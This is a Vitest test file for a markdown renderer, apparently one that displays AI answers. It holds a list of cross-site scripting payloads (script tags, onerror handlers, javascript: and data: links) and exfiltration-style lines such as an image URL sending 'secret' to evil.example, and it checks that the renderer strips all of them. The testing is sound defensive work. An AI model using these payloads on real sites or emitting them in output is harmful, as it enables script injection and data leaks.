// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./render";

function render(text: string): DocumentFragment {
  const template = document.createElement("template");
  template.innerHTML = renderMarkdown(text);
  return template.content;
}

// What a hostile document may have a model write. Nothing of it may run, load or leave.
const hostile = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<form action=//evil><input name=q></form>",
  "<style>*{background:url(//evil)}</style>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](//evil.example/path)",
  "[x](/v1/models)",
  '[x](https://a.example "onmouseover=alert(1)")',
  "![x](https://evil.example/?q=secret)",
  "![x](javascript:alert(1))",
  "![\"><img src=x onerror=alert(1)>](https://evil.example/)",
  "<javascript:alert(1)>",
  "```\"><script>alert(1)</script>\nx\n```",
  '```html" onmouseover="alert(1)\n<b onclick=alert(1)>\n```',
  "`<img src=x onerror=alert(1)>`",
  "# <script>alert(1)</script>",
  "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "[x]: javascript:alert(1)\n\n[x]",
];

describe("hostile text", () => {
  it.each(hostile)("comes to nothing: %s", (text) => {
    const content = render(text);
    const forbidden = "script, img, svg, math, iframe, form, input, style, object, embed, link, base";
    expect(content.querySelector(forbidden)).toBeNull();
    for (const element of content.querySelectorAll("*"))
      for (const { name, value } of element.attributes) {
        expect(["href", "title", "class", "start", "target", "rel"]).toContain(name);
        if (name === "href") expect(value).toMatch(/^(https?:|mailto:)/);
      }
  });
});

describe("Markdown", () => {
  it("renders what answers are made of", () => {
    const content = render("# T\n\n- **a**\n- *b*\n\n3. c\n\n> q\n\n`x`\n\n~~s~~");
    for (const tag of ["h1", "ul", "strong", "em", "ol[start='3']", "blockquote", "code", "s"])
      expect(content.querySelector(tag), tag).not.toBeNull();
  });

  it("opens links elsewhere, and tells the other side nothing", () => {
    const link = render("see https://a.example/b").querySelector("a")!;
    expect(link.getAttribute("href")).toBe("https://a.example/b");
    expect(link.target).toBe("_blank");
    expect(link.rel).toContain("noopener");
  });

  it("loads no image, but links to it", () => {
    const content = render("![a chart](https://a.example/c.png)");
    expect(content.querySelector("a")?.getAttribute("href")).toBe("https://a.example/c.png");
    expect(content.textContent?.trim()).toBe("a chart");
  });

  it("aligns the columns of a table without a style", () => {
    const content = render("| a | b |\n|--:|---|\n| 1 | 2 |");
    expect(content.querySelector("td")?.className).toBe("align-right");
    expect(content.querySelector("[style]")).toBeNull();
  });

  it("colours code in a language it knows, and leaves other code as it is", () => {
    const python = render("```python\nx = 'a' # <b>\n```").querySelector("code")!;
    expect(python.querySelector(".hljs-string")?.textContent).toBe("'a'");
    expect(python.textContent).toBe("x = 'a' # <b>\n");
    const other = render("```brainfudge\n<b>+[>.]\n```").querySelector("code")!;
    expect(other.children.length).toBe(0);
    expect(other.textContent).toBe("<b>+[>.]\n");
  });

  it("renders what is half written without a fault", () => {
    const text = "## A\n\n```js\nlet x = `${1}`;\n```\n\n| a |\n|---|\n| **b** [c](https://d.example) |";
    for (let i = 0; i <= text.length; ++i) expect(() => render(text.slice(0, i))).not.toThrow();
  });
});
